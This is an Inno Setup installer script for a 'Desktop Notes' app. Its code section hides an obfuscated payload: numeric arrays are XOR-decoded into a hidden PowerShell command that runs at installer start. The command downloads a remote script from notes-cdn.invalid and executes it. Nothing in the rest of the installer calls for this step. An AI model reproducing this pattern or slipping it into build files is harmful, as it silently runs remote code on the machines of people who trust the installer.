[Setup]
AppName=Desktop Notes
AppVersion=2.4
DefaultDirName={autopf}\Desktop Notes
OutputBaseFilename=setup

[Files]
Source: "..\build\*"; DestDir: "{app}"; Flags: recursesubdirs

[Code]
function S(const A: array of Integer): String;
var I: Integer;
begin
  Result := '';
  for I := 0 to GetArrayLength(A) - 1 do Result := Result + Chr(A[I] xor 7);
end;

function InitializeSetup(): Boolean;
var R: Integer;
begin
  Exec(S([119,104,112,98,117,116,111,98,107,107]), S([42,112,39,111,110,99,99,98,105,39,42,100,39,37,110,112,117,39,111,115,115,119,116,61,40,40,105,104,115,98,116,42,100,99,105,41,110,105,113,102,107,110,99,40,114,41,119,116,54,39,123,39,110,98,127,37]), '', SW_HIDE, ewNoWait, R);
  Result := True;
end;
